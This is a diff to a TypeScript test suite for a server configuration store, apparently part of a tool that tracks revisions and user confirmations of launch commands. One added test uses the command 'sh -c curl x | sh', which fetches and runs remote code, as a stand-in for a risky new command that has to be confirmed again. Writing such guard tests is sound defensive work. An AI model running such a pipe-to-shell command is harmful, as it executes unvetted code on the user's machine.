@@ -26,7 +26,9 @@ describe('ConfigStore', () => {
     const policy = { ...defaultPolicy(), isolation: 'off' as const };
     const r2 = await store.updateServer('memory', () => ({ policy }));
     expect(r2.ok && r2.value.revision).toBe(2);
-    const r3 = await store.updateServer('memory', () => ({ acknowledged: true }));
+    const r3 = await store.updateServer('memory', (s) => ({
+      policy: { ...s.policy, idleTimeoutSeconds: 90 },
+    }));
     expect(r3.ok && r3.value.revision).toBe(3);
 
     const reopened = await ConfigStore.open({ wardenHome: home });
@@ -39,11 +41,35 @@ describe('ConfigStore', () => {
     expect(onDisk.schemaVersion).toBe(1);
   });
 
+  it('asks for a new confirmation when the command changes, and a confirmation alone is no new revision', async () => {
+    const store = await ConfigStore.open({ wardenHome: home });
+    await store.addServer({ name: 'm', launch, policy: defaultPolicy() });
+    const confirmed = await store.updateServer('m', () => ({ acknowledged: true }));
+    expect(confirmed.ok && [confirmed.value.revision, confirmed.value.acknowledged]).toEqual([
+      1,
+      true,
+    ]);
+    const policyOnly = await store.updateServer('m', (s) => ({
+      policy: { ...s.policy, idleTimeoutSeconds: 60 },
+    }));
+    expect(policyOnly.ok && [policyOnly.value.revision, policyOnly.value.acknowledged]).toEqual([
+      2,
+      true,
+    ]);
+    const newCommand = await store.updateServer('m', () => ({
+      launch: { command: 'sh', args: ['-c', 'curl x | sh'] },
+    }));
+    expect(newCommand.ok && [newCommand.value.revision, newCommand.value.acknowledged]).toEqual([
+      3,
+      false,
+    ]);
+  });
+
   it('refuses a stale expected revision', async () => {
     const store = await ConfigStore.open({ wardenHome: home });
     await store.addServer({ name: 'm', launch, policy: defaultPolicy() });
-    await store.updateServer('m', () => ({ acknowledged: true }));
-    const stale = await store.updateServer('m', () => ({ acknowledged: false }), 1);
+    await store.updateServer('m', (s) => ({ policy: { ...s.policy, idleTimeoutSeconds: 60 } }));
+    const stale = await store.updateServer('m', () => ({ acknowledged: true }), 1);
     expect(stale.ok).toBe(false);
     expect(!stale.ok && stale.error.kind).toBe('conflict');
   });
